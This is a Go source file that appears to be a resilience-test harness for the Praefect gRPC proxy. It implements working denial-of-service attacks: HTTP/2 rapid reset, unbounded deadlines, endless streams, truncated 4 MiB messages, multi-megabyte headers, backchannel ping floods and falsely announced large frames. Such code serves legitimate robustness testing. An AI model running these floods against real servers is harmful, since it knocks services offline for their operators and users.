package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"
	"runtime"
	"strings"
	"sync"
	"time"

	"gitlab.com/gitlab-org/gitaly/v16/proto/go/gitalypb"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"golang.org/x/sys/unix"

	"praefect/proxy/storage"
	"praefect/test/attack/wire"
	"praefect/test/workload"
)

// yieldToInstances gives the thread of an attacker the lowest priority: elsewhere an attacker has
// a host of its own, and takes no processor from the target. The thread ends with the
// goroutine.
func yieldToInstances() {
	runtime.LockOSThread()
	_ = unix.Setpriority(unix.PRIO_PROCESS, 0, 19) // lower is always allowed
}

// dial connects until ctx ends. The answers of the server are not read.
func dial(ctx context.Context, addr string) (net.Conn, error) {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	context.AfterFunc(ctx, func() { _ = conn.Close() })
	return conn, nil
}

// dialHTTP2 connects likewise, with HTTP/2.
func dialHTTP2(ctx context.Context, addr string) (*wire.Client, error) {
	conn, err := dial(ctx, addr)
	if err != nil {
		return nil, err
	}
	go func() { _, _ = io.Copy(io.Discard, conn) }() // until it is closed
	return wire.New(conn)
}

// again lets n attackers do the same until ctx ends, each on a new connection as soon as it
// was cut off.
func again(ctx context.Context, n int, addr string, attack func(*wire.Client) error) error {
	var running sync.WaitGroup
	for range n {
		running.Go(func() {
			yieldToInstances()
			for ctx.Err() == nil {
				w, err := dialHTTP2(ctx, addr)
				for err == nil {
					err = attack(w)
				}
				if w != nil {
					_ = w.Close()
				}
				workload.Wait(ctx, time.Millisecond) // the instance refuses connections
			}
		})
	}
	running.Wait()
	return ctx.Err()
}

const existsMethod = gitalypb.RepositoryService_RepositoryExists_FullMethodName

// rapidReset opens calls and takes them back at once.
func rapidReset(withToken bool) func(context.Context, *harness) error {
	return func(ctx context.Context, w *harness) error {
		return again(ctx, 4, w.victim.Addr, func(a *wire.Client) error {
			token := ""
			if withToken {
				token = storage.Token(w.c.Token, time.Now())
			}
			id, err := a.Open(existsMethod, token)
			if err != nil {
				return err
			}
			return a.Framer.WriteRSTStream(id, http2.ErrCodeCancel)
		})
	}
}

// rejectedWithDeadline makes calls without the token that may take 11,000 years.
func rejectedWithDeadline(ctx context.Context, w *harness) error {
	return again(ctx, 4, w.victim.Addr, func(a *wire.Client) error {
		_, err := a.Open(existsMethod, "", hpack.HeaderField{Name: "grpc-timeout", Value: "99999999H"})
		return err
	})
}

// healthWatch opens streams that never end, without the token.
func healthWatch(ctx context.Context, w *harness) error {
	return again(ctx, 10, w.victim.Addr, func(a *wire.Client) error {
		id, err := a.Open("/grpc.health.v1.Health/Watch", "")
		if err != nil {
			return err
		}
		return a.Framer.WriteData(id, true, make([]byte, 5)) // an empty message
	})
}

// unfinishedMessages announces messages of 4 MiB, and sends all of each but the last byte.
func unfinishedMessages(ctx context.Context, w *harness) error {
	const size = 4<<20 - 5
	return again(ctx, 10, w.victim.Addr, func(a *wire.Client) error {
		id, err := a.Open(gitalypb.RepositoryService_CreateRepository_FullMethodName, "")
		if err != nil {
			return err
		}
		message := binary.BigEndian.AppendUint32([]byte{0}, size)
		for sent := 0; sent < size; {
			chunk := append(message, make([]byte, min(16<<10-len(message), size-sent))...)
			if err := a.Framer.WriteData(id, false, chunk); err != nil {
				return err
			}
			sent, message = sent+len(chunk), nil
		}
		return nil
	})
}

// longHeaders sends correlation ids of 8 MB, and as long ones as are taken.
func longHeaders(ctx context.Context, w *harness) error {
	long, longest := strings.Repeat("x", 100<<10), strings.Repeat("x", 8<<20)
	turn := 0
	return again(ctx, 1, w.victim.Addr, func(a *wire.Client) error {
		id := long
		if turn++; turn%10 == 0 {
			id = longest
		}
		_, err := a.Open(existsMethod, storage.Token(w.c.Token, time.Now()), hpack.HeaderField{Name: "x-gitlab-correlation-id", Value: id})
		return err
	})
}

// The frames of a multiplexed session: version, type, flags, stream, length.
func muxFrame(typ byte, flags uint16, stream, length uint32) []byte {
	f := []byte{0, typ}
	f = binary.BigEndian.AppendUint16(f, flags)
	f = binary.BigEndian.AppendUint32(f, stream)
	return binary.BigEndian.AppendUint32(f, length)
}

const (
	muxData, muxWindow, muxPing = 0, 1, 2
	muxSYN                      = 1
)

// beginSession is the first message of a client that wants a multiplexed session.
func beginSession() []byte {
	return append([]byte("backchannel"), muxFrame(muxWindow, muxSYN, 1, 0)...)
}

// pingFlood sends 12 MB of pings on each connection, to the attacked instances.
func pingFlood(ctx context.Context, w *harness) error {
	pings := bytes.Repeat(muxFrame(muxPing, muxSYN, 0, 1), 1000)
	var running sync.WaitGroup
	for _, i := range w.c.Instances {
		for range 4 {
			running.Go(func() {
				yieldToInstances()
				for ctx.Err() == nil {
					if conn, err := dial(ctx, i.Addr); err == nil {
						_, err = conn.Write(beginSession())
						for n := 0; err == nil && n < 12<<20; n += len(pings) {
							_, err = conn.Write(pings)
						}
						_ = conn.Close()
					}
					workload.Wait(ctx, time.Millisecond)
				}
			})
		}
	}
	running.Wait()
	return ctx.Err()
}

// announcedFrames announces 16 MiB on each of 100 connections, again and again.
func announcedFrames(ctx context.Context, w *harness) error {
	var running sync.WaitGroup
	for range 100 {
		running.Go(func() {
			for ctx.Err() == nil {
				if conn, err := dial(ctx, w.victim.Addr); err == nil {
					if _, err := conn.Write(append(beginSession(), muxFrame(muxData, 0, 1, 16<<20)...)); err == nil {
						_, _ = io.Copy(io.Discard, conn) // until it is cut off
					}
					_ = conn.Close()
				}
				workload.Wait(ctx, 10*time.Millisecond)
			}
		})
	}
	running.Wait()
	return ctx.Err()
}
